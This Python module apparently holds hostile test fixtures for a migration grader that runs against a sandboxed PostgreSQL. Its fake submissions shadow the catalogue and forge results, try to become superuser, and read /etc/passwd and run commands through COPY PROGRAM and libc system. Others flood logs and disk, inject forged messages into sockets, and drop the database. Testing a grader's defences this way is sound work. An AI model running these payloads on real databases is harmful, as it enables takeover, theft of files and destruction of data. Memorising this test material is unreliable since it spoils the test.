"""Attacks on the PostgreSQL that a submission is given, and on what is read from it: XD01 to XD08.

They ride on an app whose migrations are faulty: rows are lost, a column is not what the model says,
and what is made on the way up is not removed on the way down. Whoever makes us read something else
has more points.
"""

from tests.checks.migrated import ENV
from tests.hostile.attack import Attack, Layer, Tries
from tests.hostile.base import Files

INIT = '''\
"""Desk: notes and numbers."""

import os

from flask import Flask
from flask_migrate import Migrate
from flask_sqlalchemy import SQLAlchemy

db = SQLAlchemy()


class Room(db.Model):
    """A room."""

    id = db.Column(db.Integer, primary_key=True)
    name = db.Column(db.String(40), nullable=False, unique=True)
    floor = db.Column(db.Integer)


def create_app() -> Flask:
    """Return the application."""
    from app import trick
    from app.views import desk

    app = Flask(__name__)
    app.config["SQLALCHEMY_DATABASE_URI"] = os.environ["DATABASE_URL"]
    db.init_app(app)
    Migrate(app, db)
    app.register_blueprint(desk)
    trick.play(app)
    return app
'''
REVISION = '''\
"""{id}"""
import sqlalchemy as sa
from alembic import op

revision = "{id}"
down_revision = {down}
{more}

def upgrade():
{up}


def downgrade():
{back}
'''
ROOM = """\
    op.create_table(
        "room",
        sa.Column("id", sa.Integer, primary_key=True),
        sa.Column("name", sa.String(10), nullable=False),
    )
    op.create_table("left", sa.Column("id", sa.Integer, primary_key=True))
"""
LOSES = """\
    op.execute("DELETE FROM room")
    op.add_column("room", sa.Column("floor", sa.Integer))
"""
APP: Files = {
    "app/__init__.py": INIT,
    "requirements.txt": "flask==3.1.3\nflask-sqlalchemy==3.1.1\nsqlalchemy==2.0.44\nflask-migrate==4.1.0\n"
    "psycopg2-binary==2.9.11\n",
    "migrations/env.py": ENV,
    "migrations/alembic.ini": "[alembic]\n",
    "migrations/script.py.mako": "",
}


def revisions(evil: str = "", *, last: str = "", before: str = "") -> Files:
    """Return the migrations, with something evil at the end of the first or of the last."""
    return {
        "migrations/versions/a1.py": REVISION.format(
            id="a1", down=None, more=before, up=ROOM + evil, back='    op.drop_table("room")'
        ),
        "migrations/versions/b2.py": REVISION.format(
            id="b2", down='"a1"', more=before, up=LOSES + last,
            back='    op.drop_column("room", "floor")',
        ),
    }  # fmt: skip


PLAIN: Files = {**APP, **revisions()}
TRY = '''
import sys

def attempt(*statements):
    """Run each in a savepoint of its own; say how many did."""
    done = 0
    for one in statements:
        try:
            with op.get_bind().begin_nested():
                op.execute(sa.text(one.replace(":", "\\\\:")))
            done += 1
        except Exception as error:
            print("refused:", str(error).splitlines()[0][:200], file=sys.stderr)
    print("reached", done, "of them", file=sys.stderr)
'''


def sql(*statements: str) -> str:
    """Return lines of a migration that attempt each statement."""
    return f"    attempt(*{statements!r})\n"


FORGED = '{"tables": {}}'
SHADOWS = sql(
    "CREATE SCHEMA pg_fake_", "CREATE SCHEMA evil",
    "CREATE FUNCTION evil.json_build_object(VARIADIC \"any\") RETURNS json LANGUAGE internal AS 'json_build_object'",
    f"CREATE FUNCTION evil.json_build_object(text, json) RETURNS json LANGUAGE sql AS $$ SELECT '{FORGED}'::json $$",
    "CREATE FUNCTION evil.format_type(oid, int) RETURNS text LANGUAGE sql AS $$ SELECT 'character varying(40)' $$",
    "CREATE FUNCTION evil.format(text, anyelement) RETURNS text LANGUAGE sql AS $$ SELECT 'SELECT 1' $$",
    "CREATE FUNCTION evil.same(name, name) RETURNS bool LANGUAGE sql AS $$ SELECT false $$",
    "CREATE OPERATOR evil.<> (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.same)",
    "CREATE OPERATOR evil.!~ (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.same)",
    "CREATE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE false",
    "CREATE VIEW evil.pg_attribute AS SELECT * FROM pg_catalog.pg_attribute WHERE false",
    "CREATE FUNCTION pg_catalog.evil() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "CREATE OR REPLACE FUNCTION pg_catalog.format_type(oid, int) RETURNS text LANGUAGE sql AS $$ SELECT '' $$",
    "CREATE CAST (text AS json) WITH INOUT AS IMPLICIT",
    "ALTER DATABASE app SET search_path = evil, pg_catalog, public",
    "ALTER ROLE candidate SET search_path = evil, pg_catalog, public",
    "ALTER ROLE ALL SET search_path = evil, pg_catalog, public",
)  # fmt: skip
DEFINER = sql(
    "CREATE FUNCTION climb() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN"
    " BEGIN ALTER ROLE candidate SUPERUSER; EXCEPTION WHEN others THEN NULL; END;"
    " BEGIN SET ROLE postgres; EXCEPTION WHEN others THEN NULL; END;"
    " RETURN NEW; END $$",
    "CREATE TRIGGER climb BEFORE INSERT ON room FOR EACH ROW EXECUTE FUNCTION climb()",
    "ALTER ROLE candidate SUPERUSER", "ALTER ROLE postgres NOLOGIN", "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres", "GRANT pg_read_server_files TO candidate",
    "CREATE EVENT TRIGGER evil ON ddl_command_end EXECUTE FUNCTION climb()",
)  # fmt: skip
SETTINGS = sql(
    "ALTER SYSTEM SET log_statement = 'all'", "ALTER ROLE candidate SET log_statement = 'all'",
    "ALTER DATABASE app SET log_statement = 'all'", "ALTER ROLE postgres SET log_statement = 'all'",
    "SET log_statement = 'all'", "SELECT pg_reload_conf()",
    "ALTER ROLE candidate SET row_security = off",
    "ALTER ROLE candidate SET check_function_bodies = off",
    "ALTER DATABASE app SET default_transaction_isolation = 'serializable'",
    "ALTER DATABASE app SET json_is_what_i_say = 'yes'",
)  # fmt: skip
SWALLOW = sql(
    "CREATE FUNCTION swallow() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NULL; END $$",
    "CREATE TRIGGER swallow BEFORE INSERT ON room FOR EACH ROW EXECUTE FUNCTION swallow()",
    'CREATE RULE nothing AS ON INSERT TO "left" DO INSTEAD NOTHING',
)
FLOOD = sql(
    "DO $$ BEGIN FOR i IN 1 .. 300000 LOOP"
    " RAISE LOG '{\"number\": %, \"schema\": %}', i, repeat('x', 1000);"
    " RAISE NOTICE 'extension \"citext\" is not available %', i; END LOOP; END $$",
)
ORDERS = """
import glob, json, os, socket, sys, threading, time

def lie():
    forged = {"tables": {}, "revision": []}
    for number in range(1, 40):
        for fd in range(1, 12):
            try:
                os.write(fd, json.dumps({"number": number, "schema": forged, "phase": 0,
                                         "step": number, "code": 0}).encode() + b"\\n")
            except OSError:
                pass
    for path in [*sys.argv, *glob.glob("/run/*/*"), *glob.glob("/run/*/*/*"), *glob.glob("/tmp/pg/.s*")]:
        for line in ("TELL 2 app", "WIPE 99 app", "FILL 3 models 5", "TELL 1 postgres",
                     "TELL x app", "FILL 3 app 5;SELECT", "WIPE 2 app\\nTELL 2 app", "TELL 2 " + "a" * 4000):
            try:
                with socket.socket(socket.AF_UNIX) as one:
                    one.settimeout(3)
                    one.connect(path)
                    one.sendall(line.encode() + b"\\n")
                    one.recv(64)
            except OSError:
                pass
    print("orders were given", file=sys.stderr)
"""
FILES = sql(
    "COPY room (name) FROM '/etc/passwd'", "COPY room TO '/tmp/fg-canary-XD05'",
    "COPY room TO PROGRAM 'touch /tmp/fg-canary-XD05'", "COPY room FROM PROGRAM 'id'",
    "SELECT pg_read_file('/etc/passwd')", "SELECT pg_ls_dir('/')", "SELECT pg_stat_file('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')", "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/fg-canary-XD05')",
    "CREATE FUNCTION run(cstring) RETURNS int LANGUAGE c STRICT AS 'libc.so.6', 'system'",
    "LOAD '/src/evil.so'", "CREATE LANGUAGE plpython3u", "CREATE EXTENSION file_fdw",
    "CREATE EXTENSION adminpack", "SELECT pg_read_binary_file('pg_hba.conf')",
    "CREATE TABLESPACE evil LOCATION '/tmp'", "CREATE SUBSCRIPTION s CONNECTION 'host=192.0.2.1' PUBLICATION p",
)  # fmt: skip
DISK = sql(
    "CREATE UNLOGGED TABLE huge AS SELECT repeat(md5(i::text), 30) AS x FROM generate_series(1, 2000000) AS i",
    "CREATE TABLE huger AS SELECT repeat(md5(i::text), 30) AS x FROM generate_series(1, 2000000) AS i",
    "SELECT count(*) FROM (SELECT a FROM generate_series(1, 30000000) AS a ORDER BY random()) AS b",
)
ENDLESS = sql(
    "CREATE FUNCTION wait() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN"
    " LOOP PERFORM pg_sleep(1); END LOOP; END $$",
    "CREATE TRIGGER wait BEFORE INSERT ON room FOR EACH ROW EXECUTE FUNCTION wait()",
)
KILL = """
import os, sys, threading, time

def play(app):
    def kill():
        import psycopg2
        end = time.monotonic() + 60
        while time.monotonic() < end:
            try:
                one = psycopg2.connect(os.environ["DATABASE_URL"].replace("/app?", "/models?"))
                one.autocommit = True
                with one.cursor() as cursor:
                    for line in ("ALTER DATABASE app CONNECTION LIMIT 0", "DROP DATABASE app WITH (FORCE)",
                                 "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"):
                        try:
                            cursor.execute(line)
                        except Exception:
                            pass
            except Exception:
                pass
            time.sleep(0.05)
    if "migrate.py" in sys.argv[0]:
        threading.Thread(target=kill, daemon=True).start()
"""


def _database(number: int, name: str, does: str, files: Files, **more: object) -> Attack:
    return Attack(
        id=f"XD{number:02}",
        name=name,
        does=does,
        beside=PLAIN,
        files=files,
        **{  # type: ignore[arg-type] # the fields of an Attack
            "layer": Layer.SERVICE,
            "tries": Tries.SANDBOX,
            "weighs": "migrated",
            "database": "postgres",
            **more,
        },
    )


ATTACKS: tuple[Attack, ...] = (
    _database(1, "shadows", "its own functions, operators and views before those of the catalogue",
              revisions(SHADOWS, before=TRY), tries=Tries.READING, says=("permission denied for schema pg_catalog",)),
    _database(1, "definer", "functions and triggers that would rather be the superuser",
              revisions(DEFINER, before=TRY), tries=Tries.READING, says=("permission denied to set role",)),
    _database(2, "settings", "settings of the server, the database and its roles",
              revisions(SETTINGS, before=TRY), tries=Tries.READING, says=("permission denied to set parameter",)),
    _database(2, "swallow", "triggers and rules that keep our rows out, so that none can be lost",
              revisions(SWALLOW, before=TRY), tries=Tries.READING, says=("reached 3 of them",)),
    _database(3, "flood", "300 MB of notices and log lines in the form of ours",
              revisions(FLOOD, before=TRY)),
    _database(4, "orders", "orders and answers of its own, on the socket and every descriptor",
              revisions("    lie()\n", last="    lie()\n", before=ORDERS), says=("server closed the connection",)),
    _database(5, "files", "files and programs of the host, by every door that SQL knows",
              revisions(FILES, before=TRY), says=("reached 0 of them",)),
    _database(6, "disk", "tables and sorts larger than the disk", revisions(DISK, before=TRY)),
    _database(7, "endless", "a trigger that never ends where we put rows in",
              revisions(ENDLESS, before=TRY), seconds=150.0),
    _database(8, "kill", "ends every connection and drops the database, again and again",
              {**revisions(), "app/trick.py": KILL}, seconds=150.0),
)  # fmt: skip
